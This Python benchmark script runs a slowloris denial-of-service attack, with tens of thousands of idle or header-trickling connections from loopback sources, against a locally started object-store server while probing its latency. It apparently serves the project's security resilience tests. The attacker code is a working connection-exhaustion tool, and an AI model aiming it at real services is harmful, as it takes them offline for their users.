"""``python -m bench.slowloris``: hold many half-open connections against the server, probe it.

The attack (issue 20.2): ``--conns`` connections (default 50,000) from ``--sources`` loopback
addresses (default 127.0.0.2..127.0.0.6, one attacker process each), spread over both ports
(management and S3). Half of them send nothing after connecting; the other half send an
incomplete request head and then one more header line every ``--trickle`` seconds (slowloris),
so a timer that restarts on every byte never fires. A connection the server closes is opened
again (``--no-reconnect`` to hold only the first wave), at most ``--rate`` connects a second
over all attackers, for ``--hold`` seconds. The attackers run at ``--attacker-nice`` (10): on
one machine they would otherwise take CPU from the server, which a remote attacker does not
(they still get all the CPU the server leaves).

Meanwhile a well-behaved client from 127.0.0.1 alternates, every ``--probe-every`` seconds, a
presigned S3 GET of a small object and ``GET /healthz``, each on a new connection with a
``--probe-timeout`` (2 s) budget for connect + request + whole answer.

Figures: connections established and held (peak), connect failures, the share of attack
connections (established at least ``--within`` s before the end) that the server closed
within ``--within`` (30) s, and the probes answered in time (count, p50, p99, max, failures).
``--json FILE`` writes them; the exit status is 0 when every probe was answered in time and
every idle connection was closed within ``--within`` s.

The server is started here (``objectstore serve``, a fresh temp data dir, ``--workers``,
``--env K=V`` for settings, ``--nofile N`` for its open-file limit) unless ``--api-url`` and
``--s3-url`` name a running one (then ``--api-key`` too). ``run()`` is the same as a function
(tests/security uses it).
"""

from __future__ import annotations

import argparse
import contextlib
import errno
import json
import os
import resource
import select
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections import deque
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from .sigv4 import Presigner

DEFAULT_SOURCES = ("127.0.0.2", "127.0.0.3", "127.0.0.4", "127.0.0.5", "127.0.0.6")
IP_BIND_ADDRESS_NO_PORT = 24  # <linux/in.h>: choose the source port at connect, not bind
HEAD = b"GET /slow HTTP/1.1\r\nHost: victim\r\nUser-Agent: slowloris\r\n"
TRICKLE = b"X-Slow: 1\r\n"
API_KEY = "bench-slowloris-api-key-0123456789"


# --- the attacker (one process per source address) ---------------------------------------


@dataclass
class _Conn:
    sock: socket.socket
    fd: int
    port: int
    started: float
    established: float = 0.0
    talks: bool = False
    gone: bool = False


def _raise_nofile() -> int:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard == resource.RLIM_INFINITY or soft < hard:
        with contextlib.suppress(ValueError, OSError):
            resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


def attacker(src: str, host: str, ports: list[int], n: int, start: float, end: float,
             within: float, trickle: float, rate: float, reconnect: bool,
             connect_timeout: float = 5.0) -> dict[str, Any]:
    """Open ``n`` connections from ``src`` (wall-clock ``start``..``end``), keep them open,
    report. Non-blocking sockets on one epoll; at most ``rate`` connects a second."""
    limit = _raise_nofile()
    n = min(n, max(0, limit - 64))
    ep = select.epoll()
    conns: dict[int, _Conn] = {}
    connecting: deque[_Conn] = deque()  # objects, not fds: a closed fd's number comes back
    trickles: deque[tuple[float, _Conn]] = deque()
    stats: dict[str, Any] = {"src": src, "wanted": n, "attempted": 0, "established": 0,
                             "connect_failed": 0, "connect_errors": {}, "closed_by_server": 0,
                             "eligible": 0, "closed_within": 0, "answered": 0,
                             "lifetimes": [0] * 8, "open_by_second": []}
    lifetime_bounds = (1, 2, 5, 10, 20, 30, 60)
    open_now = 0  # established and not closed
    pending_data: set[int] = set()
    while time.time() < start:
        time.sleep(0.01)
    t0 = time.monotonic()
    mono_end = t0 + (end - start)
    next_sample = t0 + 1.0
    budget = 0.0
    last = t0
    seq = 0

    def fail(fd: int, err: int) -> None:
        c = conns.pop(fd)
        with contextlib.suppress(OSError):
            ep.unregister(fd)
        c.sock.close()
        c.gone = True
        stats["connect_failed"] += 1
        name = errno.errorcode.get(err, str(err))
        stats["connect_errors"][name] = stats["connect_errors"].get(name, 0) + 1

    def closed(fd: int, now: float) -> None:
        nonlocal open_now
        c = conns.pop(fd)
        with contextlib.suppress(OSError):
            ep.unregister(fd)
        c.sock.close()
        c.gone = True
        open_now -= 1
        stats["closed_by_server"] += 1
        life = now - c.established
        i = next((k for k, b in enumerate(lifetime_bounds) if life <= b), 7)
        stats["lifetimes"][i] += 1
        if c.established + within <= mono_end:
            stats["eligible"] += 1
            if life <= within:
                stats["closed_within"] += 1

    while True:
        now = time.monotonic()
        if now >= mono_end:
            break
        budget = min(budget + (now - last) * rate, max(rate * 0.05, 1.0))
        last = now
        # open: the first wave, then (reconnect) whatever the server closed
        want = n - len(conns) if reconnect else n - stats["attempted"]
        while want > 0 and budget >= 1 and len(connecting) < 1024:
            budget -= 1
            want -= 1
            port = ports[seq % len(ports)]
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            with contextlib.suppress(OSError):
                s.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
            s.setblocking(False)
            try:
                s.bind((src, 0))
                err = s.connect_ex((host, port))
            except OSError as exc:
                s.close()
                stats["attempted"] += 1
                stats["connect_failed"] += 1
                name = errno.errorcode.get(exc.errno or 0, str(exc.errno))
                stats["connect_errors"][name] = stats["connect_errors"].get(name, 0) + 1
                if exc.errno in (errno.EMFILE, errno.ENFILE, errno.EADDRNOTAVAIL):
                    break
                continue
            stats["attempted"] += 1
            fd = s.fileno()
            c = _Conn(s, fd, port, now, talks=bool(seq % 2))
            conns[fd] = c
            seq += 1
            if err not in (0, errno.EINPROGRESS):
                fail(fd, err)
                continue
            ep.register(fd, select.EPOLLOUT)
            connecting.append(c)
        for fd, _ev in ep.poll(0.02):
            c = conns.get(fd)
            if c is None:
                continue
            now = time.monotonic()
            if not c.established:
                err = c.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    fail(fd, err)
                    continue
                c.established = now
                stats["established"] += 1
                open_now += 1
                ep.modify(fd, select.EPOLLIN | select.EPOLLRDHUP)
                if c.talks:
                    with contextlib.suppress(OSError):
                        c.sock.send(HEAD)
                    trickles.append((now + trickle, c))
                continue
            try:
                data = c.sock.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if data:
                if fd not in pending_data:
                    pending_data.add(fd)
                    stats["answered"] += 1
                    stats.setdefault("answer_sample", data[:120].decode("latin-1"))
                continue
            pending_data.discard(fd)
            closed(fd, now)
        now = time.monotonic()
        while connecting and (connecting[0].established or connecting[0].gone
                              or connecting[0].started + connect_timeout < now):
            c = connecting.popleft()
            if not c.established and not c.gone:
                fail(c.fd, errno.ETIMEDOUT)
        while trickles and trickles[0][0] <= now:
            _, c = trickles.popleft()
            if c.gone:
                continue
            with contextlib.suppress(OSError):
                c.sock.send(TRICKLE)
            trickles.append((now + trickle, c))
        if now >= next_sample:
            stats["open_by_second"].append(open_now)
            next_sample += 1.0
    stats["open_at_end"] = open_now
    stats["lifetime_bounds"] = list(lifetime_bounds)
    still = [c for c in conns.values() if c.established]
    stats["eligible"] += sum(1 for c in still if c.established + within <= mono_end)
    for c in conns.values():
        c.sock.close()
    return stats


# --- the well-behaved client ----------------------------------------------------------------


@dataclass
class Probe:
    kind: str  # "get" | "healthz"
    at: float  # seconds since the attack started
    ok: bool
    seconds: float
    status: int = 0
    error: str = ""


def probe(kind: str, host: str, port: int, target: str, budget: float, t0: float
          ) -> Probe:
    """One request on a new connection, the whole of it (connect to last byte) in ``budget``
    seconds."""
    started = time.monotonic()
    deadline = started + budget
    status = 0
    try:
        with socket.create_connection((host, port), timeout=budget) as s:
            s.sendall(f"GET {target} HTTP/1.1\r\nHost: {host}:{port}\r\n"
                      "Connection: close\r\n\r\n".encode())
            buf = b""
            length = -1
            while True:
                left = deadline - time.monotonic()
                if left <= 0:
                    raise TimeoutError("answer not complete in time")
                s.settimeout(left)
                chunk = s.recv(65536)
                if not chunk:
                    break
                buf += chunk
                if length < 0 and b"\r\n\r\n" in buf:
                    head, _, _ = buf.partition(b"\r\n\r\n")
                    status = int(head.split(b" ", 2)[1])
                    for line in head.split(b"\r\n")[1:]:
                        k, _, v = line.partition(b":")
                        if k.strip().lower() == b"content-length":
                            length = len(head) + 4 + int(v)
                if 0 <= length <= len(buf):
                    break
        took = time.monotonic() - started
        ok = status == 200 and took <= budget
        return Probe(kind, started - t0, ok, took, status, "" if ok else f"HTTP {status}")
    except OSError as exc:
        return Probe(kind, started - t0, False, time.monotonic() - started, status,
                     type(exc).__name__)


# --- the server under test ------------------------------------------------------------------


class Server:
    """``objectstore serve`` in a fresh temp dir (its own session: stopped by its id)."""

    def __init__(self, workers: str, env: dict[str, str], nofile: int | None = None) -> None:
        self.tmp = tempfile.TemporaryDirectory(prefix="slowloris-")
        self.api_port, self.s3_port = _free_port(), _free_port()
        self.log = Path(self.tmp.name) / "server.log"
        cmd = [sys.executable, "-m", "objectstore.cli.main", "serve", "--data-dir",
               str(Path(self.tmp.name) / "data"), "--api-port", str(self.api_port),
               "--s3-port", str(self.s3_port), "--workers", workers]
        full_env = {**os.environ, "OBJECTSTORE_API_KEY": API_KEY,
                    "OBJECTSTORE_LOG_LEVEL": "warning", "OBJECTSTORE_FSYNC": "false",
                    "OBJECTSTORE_SQLITE_SYNCHRONOUS": "NORMAL", **env}

        def limit() -> None:  # in the child: an open-file limit it cannot raise
            if nofile:
                resource.setrlimit(resource.RLIMIT_NOFILE, (nofile, nofile))

        with open(self.log, "wb") as log:
            self.proc = subprocess.Popen(cmd, env=full_env, stdout=log,  # noqa: S603
                                         stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL,
                                         start_new_session=True, preexec_fn=limit)
        deadline = time.monotonic() + 60
        while True:
            if self.proc.poll() is not None:
                raise RuntimeError(f"server exited: {self.log.read_text()[-2000:]}")
            p = probe("healthz", "127.0.0.1", self.api_port, "/healthz", 1.0, 0.0)
            if p.ok:
                break
            if time.monotonic() > deadline:
                raise RuntimeError("server did not start")
            time.sleep(0.1)

    def pids(self) -> list[int]:
        pids = [self.proc.pid]
        with contextlib.suppress(OSError):
            kids = Path(f"/proc/{self.proc.pid}/task/{self.proc.pid}/children").read_text()
            pids += [int(p) for p in kids.split()]
        return pids

    def sockets(self) -> int:
        """Sockets open in the server's processes (connections, listeners, database)."""
        total = 0
        for pid in self.pids():
            with contextlib.suppress(OSError):
                for fd in os.listdir(f"/proc/{pid}/fd"):
                    with contextlib.suppress(OSError):
                        if os.readlink(f"/proc/{pid}/fd/{fd}").startswith("socket:"):
                            total += 1
        return total

    def stop(self) -> None:
        if self.proc.poll() is None:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(self.proc.pid, signal.SIGTERM)
            try:
                self.proc.wait(30)
            except subprocess.TimeoutExpired:
                with contextlib.suppress(ProcessLookupError):
                    os.killpg(self.proc.pid, signal.SIGKILL)
                self.proc.wait(10)
        self.tmp.cleanup()


def _listen_overflows() -> int:
    """The kernel's count of connections dropped because an accept queue was full (all
    sockets of this network namespace: other programs' count too)."""
    try:
        lines = Path("/proc/net/netstat").read_text().splitlines()
    except OSError:
        return 0
    for names, values in zip(lines[::2], lines[1::2], strict=False):
        if names.startswith("TcpExt:"):
            row = dict(zip(names.split()[1:], values.split()[1:], strict=False))
            return int(row.get("ListenOverflows", 0))
    return 0


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _make_object(api_url: str, s3_host: str, s3_port: int, api_key: str) -> str:
    """A store holding one small object; the presigned GET target of it."""
    import httpx

    name = f"slowloris-{os.getpid()}-{int(time.time())}"
    with httpx.Client(base_url=api_url, timeout=60,
                      headers={"Authorization": f"bearer {api_key}"}) as api:
        region = api.get("/v2/regions").json()[0]["code"]
        r = api.post("/v2/objectstores", json={"name": name, "region": region})
        r.raise_for_status()
        cred_id = r.json()["owner_info"]["credential_id"]
        c = api.get(f"/v2/objectstore/credentials/{cred_id}", params={"region": region})
        c.raise_for_status()
        body = c.json()
    signer = Presigner(f"{s3_host}:{s3_port}", body["access_key_id"],
                       body["secret_access_key_id"], region=region, expires=6 * 3600)
    put = signer.target("PUT", f"/{name}/probe.txt")
    with socket.create_connection((s3_host, s3_port), timeout=30) as s:
        payload = b"hello from a well-behaved client\n"
        s.sendall(f"PUT {put} HTTP/1.1\r\nHost: {s3_host}:{s3_port}\r\nContent-Length: "
                  f"{len(payload)}\r\nConnection: close\r\n\r\n".encode() + payload)
        answer = b""
        while chunk := s.recv(65536):
            answer += chunk
    if not answer.startswith(b"HTTP/1.1 200"):
        raise RuntimeError(f"PutObject failed: {answer[:300]!r}")
    return signer.target("GET", f"/{name}/probe.txt")


# --- the run ----------------------------------------------------------------------------------


@dataclass
class Figures:
    conns: int
    sources: list[str]
    hold_s: float
    within_s: float
    probe_timeout_s: float
    attempted: int = 0
    established: int = 0
    connect_failed: int = 0
    connect_errors: dict[str, int] = field(default_factory=dict)
    peak_open: int = 0
    closed_by_server: int = 0
    answered_by_server: int = 0
    eligible: int = 0
    closed_within: int = 0
    lifetimes: dict[str, int] = field(default_factory=dict)
    server_sockets_peak: int = 0
    probes: int = 0
    probes_ok: int = 0
    get_ok: str = ""
    healthz_ok: str = ""
    probe_p50_s: float = 0.0
    probe_p99_s: float = 0.0
    probe_max_s: float = 0.0
    probe_failures: list[dict[str, Any]] = field(default_factory=list)
    baseline_max_s: float = 0.0
    listen_overflows: int = 0
    server_log_tail: str = ""
    probe_seconds: list[list[Any]] = field(default_factory=list)

    @property
    def passed(self) -> bool:
        return (self.probes > 0 and self.probes_ok == self.probes
                and self.closed_within == self.eligible)

    def text(self) -> str:
        lines = [
            f"attack: {self.conns:,} half-open connections from {', '.join(self.sources)} for "
            f"{self.hold_s:.0f} s: {self.attempted:,} connects, {self.established:,} "
            f"established, {self.connect_failed:,} failed {self.connect_errors or ''}",
            f"held open at once (peak, attacker's count): {self.peak_open:,}; sockets in the "
            f"server (peak): {self.server_sockets_peak:,}; accept-queue overflows (kernel, "
            f"whole host): {self.listen_overflows:,}",
            f"closed by the server: {self.closed_by_server:,} ({self.answered_by_server:,} "
            f"with an answer first); lifetimes {self.lifetimes}",
            f"idle connections closed within {self.within_s:.0f} s: {self.closed_within:,} of "
            f"{self.eligible:,} (established at least {self.within_s:.0f} s before the end)",
            f"probes answered within {self.probe_timeout_s:g} s: {self.probes_ok} of "
            f"{self.probes} (GET {self.get_ok}, /healthz {self.healthz_ok}); p50 "
            f"{self.probe_p50_s * 1000:.1f} ms, p99 {self.probe_p99_s * 1000:.1f} ms, max "
            f"{self.probe_max_s * 1000:.1f} ms (before the attack: max "
            f"{self.baseline_max_s * 1000:.1f} ms)",
        ]
        for f in self.probe_failures[:10]:
            lines.append(f"  failed probe: {f}")
        lines.append("PASS" if self.passed else "FAIL")
        return "\n".join(lines)


def run(conns: int = 50_000, sources: tuple[str, ...] = DEFAULT_SOURCES, hold: float = 60.0,
        within: float = 30.0, trickle: float = 5.0, rate: float = 10_000.0,
        reconnect: bool = True, probe_timeout: float = 2.0, probe_every: float = 0.2,
        workers: str = "auto", env: dict[str, str] | None = None,
        api_url: str | None = None, s3_url: str | None = None,
        api_key: str = API_KEY, log: Any = None, nofile: int | None = None,
        attacker_nice: int = 10) -> Figures:
    say = log or (lambda msg: print(msg, file=sys.stderr, flush=True))
    server = None
    if api_url is None or s3_url is None:
        say(f"starting objectstore serve --workers {workers} {env or ''}")
        server = Server(workers, env or {}, nofile)
        api_url = f"http://127.0.0.1:{server.api_port}"
        s3_url = f"http://127.0.0.1:{server.s3_port}"
    api, s3 = urlsplit(api_url), urlsplit(s3_url)
    host = api.hostname or "127.0.0.1"
    api_port, s3_port = api.port or 80, s3.port or 80
    figs = Figures(conns, list(sources), hold, within, probe_timeout)
    procs: list[subprocess.Popen[bytes]] = []
    try:
        get_target = _make_object(api_url, s3.hostname or host, s3_port, api_key)
        base = [probe(k, host, p, t, probe_timeout, 0.0)
                for _ in range(5) for k, p, t in (("get", s3_port, get_target),
                                                   ("healthz", api_port, "/healthz"))]
        if not all(p.ok for p in base):
            raise RuntimeError(f"the server does not answer before the attack: {base}")
        figs.baseline_max_s = max(p.seconds for p in base)
        overflows_before = _listen_overflows()
        start = time.time() + 1.0
        end = start + hold
        per = [conns // len(sources) + (1 if i < conns % len(sources) else 0)
               for i in range(len(sources))]
        for src, n in zip(sources, per, strict=True):
            args = {"src": src, "host": host, "ports": [api_port, s3_port], "n": n,
                    "start": start, "end": end, "within": within, "trickle": trickle,
                    "rate": rate / len(sources), "reconnect": reconnect}
            procs.append(subprocess.Popen(  # noqa: S603
                [sys.executable, "-m", "bench.slowloris", "--attacker", json.dumps(args)],
                stdout=subprocess.PIPE, stdin=subprocess.DEVNULL,
                cwd=Path(__file__).resolve().parent.parent,
                preexec_fn=lambda: os.nice(attacker_nice)))
        say(f"attack: {conns:,} connections from {len(sources)} sources, {hold:.0f} s")
        results: list[Probe] = []
        peak_sockets = [0]

        def watch_sockets() -> None:
            while time.time() < end and server is not None:
                peak_sockets[0] = max(peak_sockets[0], server.sockets())
                time.sleep(1.0)

        watcher = threading.Thread(target=watch_sockets, daemon=True)
        while time.time() < start:
            time.sleep(0.01)
        watcher.start()
        t0 = time.monotonic()
        i = 0
        while time.time() < end - probe_timeout:
            kind, port, target = (("get", s3_port, get_target) if i % 2 == 0
                                  else ("healthz", api_port, "/healthz"))
            p = probe(kind, host, port, target, probe_timeout, t0)
            results.append(p)
            if not p.ok:
                say(f"probe failed: {p}")
            i += 1
            time.sleep(max(0.0, probe_every - p.seconds))
        outs = [json.loads(proc.communicate(timeout=hold + 120)[0].decode().strip()
                           .splitlines()[-1]) for proc in procs]
        watcher.join(timeout=5)
        for o in outs:
            if o.get("answer_sample"):
                say(f"{o['src']}: {o['answered']} answered, e.g. {o['answer_sample']!r}")
        figs.server_sockets_peak = peak_sockets[0]
        for o in outs:
            figs.attempted += o["attempted"]
            figs.established += o["established"]
            figs.connect_failed += o["connect_failed"]
            for k, v in o["connect_errors"].items():
                figs.connect_errors[k] = figs.connect_errors.get(k, 0) + v
            figs.closed_by_server += o["closed_by_server"]
            figs.answered_by_server += o["answered"]
            figs.eligible += o["eligible"]
            figs.closed_within += o["closed_within"]
            bounds = [*(f"<={b}s" for b in o["lifetime_bounds"]), "longer"]
            for name, v in zip(bounds, o["lifetimes"], strict=True):
                figs.lifetimes[name] = figs.lifetimes.get(name, 0) + v
        seconds = min(len(o["open_by_second"]) for o in outs) if outs else 0
        figs.peak_open = max((sum(o["open_by_second"][s] for o in outs)
                              for s in range(seconds)), default=0)
        figs.probes = len(results)
        figs.probes_ok = sum(p.ok for p in results)
        for kind in ("get", "healthz"):
            mine = [p for p in results if p.kind == kind]
            text = f"{sum(p.ok for p in mine)}/{len(mine)}"
            if kind == "get":
                figs.get_ok = text
            else:
                figs.healthz_ok = text
        times = sorted(p.seconds for p in results)
        if times:
            figs.probe_p50_s = times[len(times) // 2]
            figs.probe_p99_s = times[min(len(times) - 1, int(len(times) * 0.99))]
            figs.probe_max_s = times[-1]
        figs.probe_failures = [asdict(p) for p in results if not p.ok]
        figs.probe_seconds = [[round(p.at, 2), p.kind, round(p.seconds, 4)] for p in results]
        figs.listen_overflows = _listen_overflows() - overflows_before
        if server is not None:
            with contextlib.suppress(OSError):
                figs.server_log_tail = server.log.read_text(errors="replace")[-3000:]
        return figs
    finally:
        for proc in procs:
            if proc.poll() is None:
                proc.kill()
                proc.wait(10)
        if server is not None:
            server.stop()


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m bench.slowloris", description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--attacker", help=argparse.SUPPRESS)
    ap.add_argument("--conns", type=int, default=50_000)
    ap.add_argument("--sources", default=",".join(DEFAULT_SOURCES))
    ap.add_argument("--hold", type=float, default=60.0, help="seconds of attack [60]")
    ap.add_argument("--within", type=float, default=30.0,
                    help="idle connections must be closed within this [30 s]")
    ap.add_argument("--trickle", type=float, default=5.0,
                    help="talking attackers send a header line this often [5 s]")
    ap.add_argument("--rate", type=float, default=10_000.0, help="connects/s, all sources")
    ap.add_argument("--no-reconnect", action="store_true")
    ap.add_argument("--probe-timeout", type=float, default=2.0)
    ap.add_argument("--probe-every", type=float, default=0.2)
    ap.add_argument("--workers", default="auto")
    ap.add_argument("--env", action="append", default=[], metavar="K=V",
                    help="server setting (e.g. OBJECTSTORE_HEADER_TIMEOUT_SECONDS=10)")
    ap.add_argument("--attacker-nice", type=int, default=10,
                    help="the attackers' nice value [10]: on one machine they would "
                    "otherwise take the server's CPU, which a remote attacker does not")
    ap.add_argument("--nofile", type=int, help="the server's open-file limit (soft and hard)")
    ap.add_argument("--api-url")
    ap.add_argument("--s3-url")
    ap.add_argument("--api-key", default=API_KEY)
    ap.add_argument("--json", type=Path)
    a = ap.parse_args(argv)
    if a.attacker:
        args = json.loads(a.attacker)
        print(json.dumps(attacker(**args)), flush=True)
        return 0
    env = dict(kv.split("=", 1) for kv in a.env)
    figs = run(a.conns, tuple(s for s in a.sources.split(",") if s), a.hold, a.within,
               a.trickle, a.rate, not a.no_reconnect, a.probe_timeout, a.probe_every,
               a.workers, env, a.api_url, a.s3_url, a.api_key, nofile=a.nofile,
               attacker_nice=a.attacker_nice)
    print(figs.text())
    if a.json:
        a.json.write_text(json.dumps({**asdict(figs), "passed": figs.passed}, indent=2))
    return 0 if figs.passed else 1


if __name__ == "__main__":
    raise SystemExit(main())
